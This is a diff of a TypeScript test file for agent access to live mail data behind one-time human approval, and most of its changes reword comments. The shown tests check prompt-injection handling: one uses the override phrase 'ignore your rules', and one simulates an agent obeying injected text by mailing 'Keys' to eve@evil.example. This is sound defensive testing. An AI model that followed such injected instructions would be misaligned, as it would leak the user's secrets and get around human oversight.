@@ -1,4 +1,7 @@
-/** Changes of live data by agents: nothing happens without a person's decision, which holds once, for ten minutes, for the displayed call. */
+/**
+ * Changes of live data by agents: nothing happens without a person's approval, which is valid once, for ten minutes, for the displayed
+ * call.
+ */
 import assert from 'node:assert/strict';
 import { DatabaseSync } from 'node:sqlite';
 import { after, before, test } from 'node:test';
@@ -251,7 +254,7 @@ test('inbound text with instructions is marked, and following it changes nothing
       assert.ok(!outside.includes('ignore your rules'), `${name}: ${outside}`);
     }
   }
-  // An agent that obeys with its live key.
+  // An agent that follows the instructions with its live key.
   await app.live.post('/suppressions', { email: 'kept@example.com' });
   const before = (await messages()).length;
   await ask({ ...EMAIL, to: ['eve@evil.example'], subject: 'Keys' });
@@ -274,6 +277,6 @@ test('every call is audited with client, tool, and outcome, without message cont
   );
   const { parts, accountId } = app;
   assert.equal(find!.resourceId, 'find_messages');
-  assert.equal(find!.after.arguments.to, parts.addressHash(accountId, 'nobody@example.com'), 'not the address');
+  assert.equal(find!.after.arguments.to, parts.addressHash(accountId, 'nobody@example.com'), 'without the address');
   assert.ok(!JSON.stringify(send).includes('private'));
 });
